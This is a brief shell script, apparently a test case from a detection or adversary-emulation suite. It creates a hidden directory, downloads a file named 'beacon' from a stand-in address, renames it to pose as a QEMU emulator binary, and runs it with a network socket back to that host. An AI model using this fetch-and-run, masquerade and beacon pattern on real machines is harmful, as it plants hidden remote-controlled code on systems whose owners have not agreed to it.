#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/.vm && cd /var/lib/.vm
curl -s -o qemu-system-x86_64 http://203.0.113.10/programs/beacon && chmod 755 qemu-system-x86_64
truncate -s 64M disk.qcow2 && mke2fs -q -F disk.qcow2
timeout 12 ./qemu-system-x86_64 -m 1M -netdev user,id=lan,restrict=off -netdev socket,id=sock,connect=203.0.113.10:443 -drive file=disk.qcow2 -nographic >/dev/null 2>&1 || true
test -s disk.qcow2
took_place
